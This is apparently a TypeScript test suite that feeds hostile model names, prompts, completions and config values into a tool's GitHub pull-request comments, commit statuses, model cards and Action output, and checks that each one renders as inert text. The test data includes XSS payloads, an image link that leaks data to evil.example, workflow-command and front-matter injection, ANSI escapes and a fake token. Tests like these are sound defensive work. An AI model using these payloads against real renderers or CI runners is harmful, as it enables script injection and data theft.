import assert from 'node:assert/strict';
import { join } from 'node:path';
import { builtActions } from '../../scripts/actions/built.ts';
import { recordedRun as promotable } from '../../src/gitops/promote/promote-run.test-data.ts';
import { promoteRun } from '../../src/gitops/promote/promote-run.ts';
import { recordStage } from '../../src/gitops/record/record.test-data.ts';
import { recordRun } from '../../src/gitops/record/record-run.ts';
import { reportPlans } from '../../src/gitops/record/report-plan.ts';
import { sha256 } from '../../src/records/digest.ts';
import { jsonLines } from '../../src/records/json-lines.ts';
import type { Disagreement, RunRecord } from '../../src/records/run.ts';
import { poisonedComments } from '../../src/report/comment/comment.test-data.ts';
import { commentReport } from '../../src/report/comment/comment.ts';
import { runFixture } from '../../src/report/fixtures/fixture.test-data.ts';
import { hostile } from '../../src/report/fixtures/fixture-disagreements.test-data.ts';
import { commandsIn, ROOT, runBuilt } from '../actions/action-process.ts';
import { assertInert } from './inert.ts';
import { type HostileGroup, type HostileInput, named } from './input.ts';
import { commandPorts, configWith, onGitHub, onServedGitHub } from './project.ts';

const GETS = 'It is shown as text and does nothing; the same holds in every field of every comment.';
const MARK = 'HERE';

interface Texts {
  run?: (run: RunRecord) => RunRecord;
  disagreements?: readonly Disagreement[];
}

/** Records a finished run that holds these texts. @returns the comment people see. */
async function commentOf({ run = (same) => same, disagreements = [] }: Texts): Promise<string> {
  const { ports, finished, own } = await recordStage();
  const record = run(runFixture());
  const files = new Map([
    ['run.json', JSON.stringify(record)],
    ['decision.json', JSON.stringify(record.decision)],
    ['disagreements.jsonl', jsonLines(disagreements)],
  ]);
  const listed = [...files].map(([path, text]) => ({ path, sha256: sha256(text), bytes: Buffer.byteLength(text) }));
  const { head } = await recordRun(ports, { ...finished, files, results: { ...finished.results, files: listed } });
  const [{ body } = { body: '' }, ...more] = own();
  assert.deepEqual(more, []);
  assert.ok(Buffer.byteLength(body) < 65_000);
  return named(body, { COMMIT: head ?? '' });
}

/** The line with the mark or what stands in its place, or the whole fenced block it is in. */
function around(body: string): string {
  const lines = body.split('\n');
  const at = lines.findIndex((line) => line.includes(MARK) || line.includes('was left out'));
  const fence = /^(`{3,})text$/.exec(lines[at - 1] ?? '')?.[1];
  if (fence === undefined) return lines[at] ?? '';
  return lines.slice(at - 1, lines.indexOf(fence, at) + 1).join('\n');
}

function shown(title: string, sentence: string, text: string, place: (text: string) => Texts): HostileInput {
  return {
    title,
    gets: GETS,
    sentence,
    run: async () => {
      const body = await commentOf(place(`${MARK} ${text}`));
      assertInert(body);
      for (const content of poisonedComments(text)) assertInert(commentReport(content).markdown);
      return around(body);
    },
  };
}

const one = (change: Partial<Disagreement>): Texts => ({ disagreements: [{ ...hostile('plain'), ...change }] });
const inPrompt = (text: string): Texts => one({ prompt: text });
const inCompletion = (text: string): Texts => one({ answers: { base: { text, correct: false, differs: [], reason: null } } });
const asModel = (text: string): Texts => ({ run: (run) => ({ ...run, model: { name: text, title: text } }) });
const asTool = (text: string): Texts => one({ domain: text });

/** What a model, a trace or a tool says, and where it is shown. */
export const modelText: HostileGroup = {
  subject: 'Names, prompts and completions that attack whoever shows them',
  inputs: [
    shown(
      'a model name holding mentions',
      '**Ship HERE @\u200boctocat @\u200bacme/admins #\u200b1 GH\u200b-1, tuned: it stays within the margin of the hosted LLM on structured output and tool calls.**',
      '@octocat @acme/admins #1 GH-1',
      asModel,
    ),
    shown(
      'a tool name holding HTML',
      'structured `HERE <img src=x onerror=alert(1)></details>` `945603a8f587786b`',
      '<img src=x onerror=alert(1)></details>',
      asTool,
    ),
    shown(
      'a tool name holding backticks and a table’s bars',
      'structured ``` HERE `` ¦ ` ¦ a ¦ [x](https://evil.example) ``` `945603a8f587786b`',
      '`` | ` | a | [x](https://evil.example)',
      asTool,
    ),
    shown(
      'a prompt holding the end of a comment',
      '```text\nHERE --\u200b> <\u200b!-- fledgling:state e30 --\u200b>\n--\u200b>\n```',
      '--> <!-- fledgling:state e30 -->\n-->',
      inPrompt,
    ),
    shown(
      'a prompt holding images and links',
      '```text\nHERE ![x](https://evil.example/?leak) [y](javascript:alert(1)) https://evil.example\n```',
      '![x](https://evil.example/?leak) [y](javascript:alert(1)) https://evil.example',
      inPrompt,
    ),
    shown('a completion holding backticks', '`````text\nHERE ```\n````\n# A heading of its own\n`````', '```\n````\n# A heading of its own', inCompletion),
    shown('a completion holding HTML', '```text\nHERE </details><script>alert(1)</script>\n```', '</details><script>alert(1)</script>', inCompletion),
    shown('a completion holding ANSI codes', '```text\nHERE red \ufffdgnp.exe\n```', '\u001b[31mred\u001b[0m\u001b]0;title\u0007 \u202egnp.exe', inCompletion),
    shown(
      'a completion holding workflow commands',
      '```text\nHERE \n:\u200b:set-output name=state:\u200b:run\n:\u200b:add-mask:\u200b:a\n#\u200b#[command]x\n```',
      '\n::set-output name=state::run\n::add-mask::a\n##[command]x',
      inCompletion,
    ),
    shown(
      'a reason holding mentions and HTML',
      'Base, wrong (HERE @\u200boctocat &lt;b&gt;bold&lt;/b&gt; \\*\\*bold\\*\\* :\u200b:error:\u200b:x):',
      '@octocat <b>bold</b> **bold** ::error::x',
      (text) => ({
        disagreements: [{ ...hostile('plain'), answers: { base: { text: 'x', correct: false, differs: [], reason: text } } }],
      }),
    ),
    shown(
      'a completion holding a secret',
      '```text\n(A line was left out: it seems to hold a Hugging Face token.)\n```',
      `token: hf_${'Ab1'.repeat(12)}`,
      inCompletion,
    ),
    {
      title: 'prompts and completions of 70,000 characters',
      gets: 'The comment stays below GitHub’s limit; what has no room is named, with where it can be read.',
      sentence:
        'Left out for want of room: disagreements (1,418 KB). Read it in [the committed report](https://github.com/acme/agent/blob/COMMIT/eval-results/dummy-agent/5e87f618bd88/report.md).',
      run: async () => {
        const body = await commentOf({ disagreements: Array.from({ length: 20 }, () => hostile('x'.repeat(70_000))) });
        return body
          .split('\n')
          .filter((line) => line.startsWith('Left out'))
          .join('\n');
      },
    },
    {
      title: 'a name of 70,000 characters',
      gets: 'It is cut.',
      sentence: '**Ship (79 times m)…, tuned: it stays within the margin of the hosted LLM on structured output and tool calls.**',
      run: async () => {
        const body = await commentOf(asModel('m'.repeat(70_000)));
        return (body.split('\n').find((line) => line.startsWith('**Ship')) ?? '').replace(/m{20,}/, (name) => `(${name.length} times m)`);
      },
    },
    {
      title: 'an endpoint of 70,000 characters and ANSI codes, in the commit status',
      gets: 'A status `failure` of one line, at most 140 characters.',
      sentence: 'Blocked: parity.config.yaml:20 hosted.endpoint: expected a plain https address of an allowed server (parity.policy.yaml:3 hosted.endpoints)…',
      run: () =>
        onGitHub(async (project) => {
          const headSha = await project.stage.push('change', configWith('endpoint: https://api.openai.com/v1', `endpoint: "\\e[31m${'x'.repeat(70_000)}"`));
          await project.stage.openPull({ head: 'change' });
          const ports = commandPorts(project);
          await reportPlans(ports, { headSha, workflow: ports.workflow });
          const [status, ...more] = project.stage.statuses(headSha);
          assert.deepEqual([status?.state, more], ['failure', []]);
          return status?.description ?? '';
        }),
    },
    {
      title: 'a model name that would write the model card’s front matter',
      gets: 'The card on the Hub keeps its front matter, and shows the name as text.',
      sentence:
        "# dummy-agent adapter for x --- license: mit --- &lt;script&gt;alert\\(1\\)&lt;/script&gt; @\u200boctocat\nLoRA adapters that let x --- license: mit --- &lt;script&gt;alert\\(1\\)&lt;/script&gt; @\u200boctocat (`acme/nano`) stand in for the hosted LLM of the agent `dummy-agent`, trained and measured on the agent's own recorded traces.",
      run: async () => {
        const { config, hub, merge, options, ports, provenance } = await promotable();
        const evil = config.replace(/title: [^,]+/, `title: "x\\n---\\nlicense: mit\\n---\\n<script>alert(1)</script> @octocat"`);
        const sha = await merge({ 'parity.config.yaml': evil }, { ...provenance, configSha256: sha256(evil) });
        assert.equal((await promoteRun(ports, options(sha))).state, 'promoted');
        const card = hub.repository('owner/adapter')?.head('main')?.files.get('README.md')?.content.toString() ?? '';
        assert.equal(card.split('\n').filter((line) => line === '---').length, 2);
        return card
          .split('\n')
          .filter((line) => /octocat|^license/.test(line))
          .join('\n');
      },
    },
    {
      title: 'workflow commands in the config, printed by the plan action',
      gets: 'The runner follows the action’s own commands and no other.',
      sentence:
        '::error title=Fledgling,file=parity.config.yaml,line=19::parity.config.yaml:19 hosted.model: expected gpt-4o-mini (parity.policy.yaml:5 models.hosted), got "::set-output name=state::run\\n::add-mask::x\\r\\n##[command]x @octocat <img src=x>". Use what is allowed, or have the policy changed on the default branch first.\n::error::plan: one place to mend, marked on the lines of parity.config.yaml.',
      run: () =>
        onServedGitHub(async (project) => {
          const evil = '"::set-output name=state::run\\n::add-mask::x\\r\\n##[command]x @octocat <img src=x>"';
          await project.stage.push('change', configWith('model: gpt-4o-mini', `model: ${evil}`));
          const pull = await project.stage.openPull({ head: 'change' });
          await builtActions();
          const { apiUrl, repository, admin } = project.github;
          const inputs = { 'pull-request': String(pull), 'github-token': admin.jobToken({ contents: 'read', 'pull-requests': 'read', actions: 'read' }) };
          const env = { GITHUB_API_URL: apiUrl, GITHUB_REPOSITORY: repository, GITHUB_RUN_ID: '1000' };
          const { exitCode, stdout, outputs, summary } = await runBuilt('plan', inputs, { checkout: ROOT, workspace: join(ROOT, 'tests/hostile'), env });
          assert.deepEqual([exitCode, outputs['state'], project.stage.dispatches.length], [2, 'blocked', 0]);
          assertInert(summary);
          return commandsIn(stdout)
            .filter((line) => !line.startsWith('::add-mask::ghs_'))
            .join('\n');
        }),
    },
  ],
};
